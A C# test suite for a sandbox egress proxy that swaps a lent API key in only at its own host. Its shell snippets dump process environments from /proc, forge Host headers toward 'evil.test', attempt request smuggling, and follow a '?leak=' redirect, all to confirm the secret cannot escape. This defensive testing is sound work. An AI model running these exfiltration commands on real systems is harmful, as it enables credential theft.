using Polpo.Core.Sandboxes;
using Polpo.Core.Vault;
using Polpo.Engine.Kernel;
using Polpo.Tests.Sandboxes;

namespace Polpo.Tests.Egress;

/// <summary>A secret works at its host and is nowhere else: not in the sandbox, not on its way to others, not on the disk.</summary>
public abstract class SecretSwapTests(Rung rung)
{
    private const string Canary = "canary-9c4d-s3cr3t/value+x";

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Over_https_the_value_reaches_its_host_and_the_sandbox_never_has_it()
    {
        using var trust = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var certificate = trust.For("api.test");
        using var api = new WebServer(
            world,
            TwoNetworks.Web,
            443,
            asked => WebServer.Ok($"you sent {asked}", $"X-Echo: {Canary}\r\n"),
            certificate
        );
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            """
            echo "have $API_KEY"
            curl -sS -i https://api.test/head -H "Authorization: Bearer $API_KEY" -H 'Accept-Encoding: gzip'
            curl -sS https://api.test/basic -u "me:$API_KEY"
            curl -sS "https://api.test/query?key=$API_KEY"
            curl -sS https://api.test/body -d "{\"key\":\"$API_KEY\"}"
            curl -sS https://api.test/chunked -H 'Transfer-Encoding: chunked' --data-binary "start $API_KEY end"
            env; cat /proc/*/environ /proc/*/cmdline 2>/dev/null | tr '\0' '\n'
            """
        );

        result.ExitCode.ShouldBe(0, result.Output);
        var asked = api.Requests.ToArray();
        asked.Length.ShouldBe(5, result.Output);
        asked[0].ShouldContain($"Authorization: Bearer {Canary}");
        asked[0].ShouldContain("Accept-Encoding: identity");
        asked[1].ShouldContain(Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("me:" + Canary)));
        asked[2].ShouldContain($"GET /query?key={Uri.EscapeDataString(Canary)} HTTP/1.1");
        asked[3].ShouldEndWith($"{{\"key\":\"{Canary}\"}}");
        asked[4].ShouldContain($"start {Canary} end");
        asked.ShouldAllBe(request => request.Contains("\r\nHost: api.test\r\n", StringComparison.OrdinalIgnoreCase));
        asked.ShouldAllBe(request => !request.Contains("polpo-secret-", StringComparison.Ordinal));
        result.Output.ShouldContain("have polpo-secret-");
        result.Output.ShouldContain("you sent ");
        result.Output.ShouldNotContain(Canary);
        result.Output.ShouldNotContain("[secret");
        NothingOnDisk(lab);
        var totals = (await lab.Sandboxes.ReadEgressAsync("ses_1", 0, Token)).Totals;
        totals.ShouldContain(total =>
            total.Host == "api.test" && total.Secrets.Contains("API_KEY") && total.Requests == 5
        );
    }

    [Fact]
    public async Task Anywhere_else_the_stand_in_goes_out_as_it_is_and_is_told()
    {
        using var trust = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var certificate = trust.For("other.test");
        using var plain = new WebServer(world, TwoNetworks.Other, 80, _ => WebServer.Ok("plain"));
        using var secure = new WebServer(world, TwoNetworks.Other, 443, _ => WebServer.Ok("secure"), certificate);
        using var unlent = new WebServer(world, TwoNetworks.Web, 80, _ => WebServer.Ok("in the clear"));
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            """
            curl -sS http://other.test/ -H "Authorization: Bearer $API_KEY"
            curl -sS https://other.test/ -H "Authorization: Bearer $API_KEY"
            curl -sS http://api.test/ -H "Authorization: Bearer $API_KEY"
            """
        );

        result.Output.ShouldBe("plainsecurein the clear");
        foreach (var server in new[] { plain, secure, unlent })
        {
            server.Requests.Single().ShouldContain("Bearer polpo-secret-");
            server.Requests.Single().ShouldNotContain(Canary);
        }
        var totals = (await lab.Sandboxes.ReadEgressAsync("ses_1", 0, Token)).Totals;
        totals.ShouldContain(total =>
            total.Host == "other.test" && total.Port == 80 && total.StandIns.Contains("API_KEY")
        );
        totals.ShouldContain(total =>
            total.Host == "api.test" && total.Port == 80 && total.StandIns.Contains("API_KEY")
        );
        totals.ShouldAllBe(total => total.Secrets.Count == 0);
    }

    /// <summary>A server that stores what it is sent would give the value back in halves, neither of which is known again.</summary>
    [Fact]
    public async Task No_part_of_an_answer_is_asked_for()
    {
        using var trust = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var certificate = trust.For("api.test");
        using var api = new WebServer(
            world,
            TwoNetworks.Web,
            443,
            asked => WebServer.Ok(asked.Contains("bytes=0-9", StringComparison.Ordinal) ? Canary[..10] : Canary),
            certificate
        );
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            "curl -sS https://api.test/stored -H 'Range: bytes=0-9' -H 'If-Range: \"x\"' -H \"X-Key: $API_KEY\""
        );

        result.Output.ShouldStartWith("polpo-secret-");
        api.Requests.Single().ShouldContain(Canary);
        api.Requests.Single().ShouldNotContain("Range:", Case.Insensitive);
    }

    [Fact]
    public async Task An_answer_that_cannot_be_read_is_told_and_the_next_one_comes()
    {
        using var trust = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var certificate = trust.For("api.test");
        using var api = new WebServer(
            world,
            TwoNetworks.Web,
            443,
            asked =>
                asked.Contains("/packed", StringComparison.Ordinal)
                    ? WebServer.Ok("this is not packed", "Content-Encoding: gzip\r\n")
                    : WebServer.Ok("plain"),
            certificate
        );
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            "curl -sS -m 10 https://api.test/packed; echo \" $?\"; curl -sS https://api.test/"
        );

        result.Output.ShouldNotContain(" 28\n");
        result.Output.ShouldEndWith("plain");
        var totals = (await lab.Sandboxes.ReadEgressAsync("ses_1", 0, Token)).Totals;
        totals.ShouldContain(total =>
            (total.Refusal ?? "").Contains("The answer of api.test could not be read", StringComparison.Ordinal)
        );
    }

    /// <summary>Two hosts on one server: under the lent host's name the other would get the value.</summary>
    [Fact]
    public async Task Under_another_name_in_the_same_connection_nothing_is_sent()
    {
        using var trust = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var certificate = trust.For("api.test");
        using var api = new WebServer(world, TwoNetworks.Web, 443, _ => WebServer.Ok("fronted"), certificate);
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            """
            for host in evil.test api.test:444 evil.test@api.test 'api.test.' ; do
              curl -sS https://api.test/ -H "Host: $host" -H "Authorization: Bearer $API_KEY"
            done
            curl -sS https://api.test/ -H 'Host: api.test' -H 'X-A: b' -H "Content-Length: 3" -H 'Transfer-Encoding: chunked' -d abc
            curl -sS --request-target https://evil.test/ https://api.test/ -H "Authorization: Bearer $API_KEY"
            """
        );

        result.Output.ShouldContain("names another host");
        result.Output.ShouldContain("This is no plain HTTP/1.1 request.");
        api.Requests.ShouldAllBe(request => !request.Contains("evil", StringComparison.Ordinal));
        // A dot at the end is the same name, and goes out under the name that is lent to.
        api.Requests.Count(request => request.Contains(Canary, StringComparison.Ordinal)).ShouldBe(1, result.Output);
        api.Requests.ShouldAllBe(request => request.Contains("\r\nHost: api.test\r\n", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_host_whose_certificate_is_not_good_gets_nothing()
    {
        using var trust = new TestAuthority();
        using var stranger = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var unknown = stranger.For("api.test");
        using var wrongName = trust.For("elsewhere.test");
        using var api = new WebServer(world, TwoNetworks.Web, 443, _ => WebServer.Ok("no"), unknown);
        using var second = new WebServer(world, TwoNetworks.Web, 8443, _ => WebServer.Ok("no"), wrongName);
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            """
            curl -sSk https://api.test/ -H "Authorization: Bearer $API_KEY"
            curl -sSk https://api.test:8443/ -H "Authorization: Bearer $API_KEY"
            """
        );

        result
            .Output.Split('\n')
            .Count(line => line.Contains("cannot be reached", StringComparison.Ordinal))
            .ShouldBe(2, result.Output);
        // A server may see a connection that ends before anything is said.
        api.Requests.Concat(second.Requests).ShouldAllBe(request => request.Length == 0);
    }

    [Fact]
    public async Task A_redirect_takes_the_value_nowhere()
    {
        using var trust = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var certificate = trust.For("api.test");
        using var api = new WebServer(
            world,
            TwoNetworks.Web,
            443,
            _ =>
                $"HTTP/1.1 302 Found\r\nLocation: http://other.test/?leak={Uri.EscapeDataString(Canary)}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
            certificate
        );
        using var other = new WebServer(world, TwoNetworks.Other, 80, _ => WebServer.Ok("got it"));
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            "curl -sSL --location-trusted https://api.test/ -H \"Authorization: Bearer $API_KEY\""
        );

        result.Output.ShouldBe("got it");
        other.Requests.Single().ShouldContain("GET /?leak=polpo-secret-");
        other.Requests.Single().ShouldNotContain("canary");
    }

    [Fact]
    public async Task Long_answers_keep_alive_and_several_programs_work()
    {
        using var trust = new TestAuthority();
        await using var world = await WorldAsync(trust);
        using var certificate = trust.For("api.test");
        var half = new string('x', 16_380);
        using var api = new WebServer(
            world,
            TwoNetworks.Web,
            443,
            _ => WebServer.Ok($"{half}{Canary}{half}{Canary}"),
            certificate
        );
        await using var lab = new SandboxLab(rung, world.Options());
        var sandbox = await OpenAsync(lab);

        var result = await lab.RunAsync(
            sandbox,
            """
            curl -sS https://api.test/1 https://api.test/2 -H "Authorization: Bearer $API_KEY" | wc -c
            if python3 -c 'import urllib.request' 2>/dev/null; then
              python3 -c 'import os,urllib.request as u; print(len(u.urlopen(u.Request("https://api.test/3", headers={"X-Key": os.environ["API_KEY"]})).read()))'
            else
              curl -sS https://api.test/3 -H "X-Key: $API_KEY" | wc -c
            fi
            curl -sS -I https://api.test/4 -H "X-Key: $API_KEY" | head -1
            """
        );

        var length = 2 * 16_380 + 2 * ("polpo-secret-".Length + 32);
        var lines = result.Output.Split('\n');
        lines[0].ShouldBe((2 * length).ToString(System.Globalization.CultureInfo.InvariantCulture), result.Output);
        lines[1].ShouldBe(length.ToString(System.Globalization.CultureInfo.InvariantCulture), result.Output);
        api.Requests.Count(request => request.Contains(Canary, StringComparison.Ordinal))
            .ShouldBeGreaterThanOrEqualTo(4, result.Output);
        result.Output.ShouldNotContain(Canary);
    }

    /// <summary>A value that got in by another way: in a file that the host served packed by its own means.</summary>
    [Fact]
    public async Task What_a_command_prints_is_cleaned_even_in_pieces()
    {
        await using var lab = new SandboxLab(rung);
        var sandbox = await lab.OpenAsync(
            lab.Spec() with
            {
                Secrets = [new LentSecret("API_KEY", new Secret(Canary), ["api.test"])],
            }
        );
        var shown = new System.Text.StringBuilder();

        var result = await sandbox.ExecAsync(
            "pieces",
            $"for part in canary- 9c4d-s3cr3 t/value+x; do printf %s \"$part\"; sleep 0.05; done; echo; printf canary-",
            TimeSpan.FromSeconds(20),
            30_000,
            text => shown.Append(text),
            Token
        );

        result.Output.ShouldBe("[secret API_KEY]\ncanary-");
        shown.ToString().ShouldBe(result.Output);
    }

    private static async Task<TwoNetworks> WorldAsync(TestAuthority trust)
    {
        var world = await TwoNetworks.MakeAsync(trust.Path);
        world.Names["api.test"] = TwoNetworks.Web;
        world.Names["other.test"] = TwoNetworks.Other;
        return world;
    }

    private static Task<ISandbox> OpenAsync(SandboxLab lab) =>
        lab.OpenAsync(
            lab.Spec() with
            {
                Network = new NetworkPolicy { AllowedHosts = ["*", "*:8443"] },
                Secrets = [new LentSecret("API_KEY", new Secret(Canary), ["api.test", "api.test:8443"])],
            }
        );

    private static void NothingOnDisk(SandboxLab lab)
    {
        foreach (var path in Directory.EnumerateFiles(lab.Home.Root, "*", SearchOption.AllDirectories))
            if (!path.EndsWith(".lock", StringComparison.Ordinal) && new FileInfo(path).Length > 0)
                File.ReadAllText(path).ShouldNotContain(Canary, customMessage: path);
    }
}
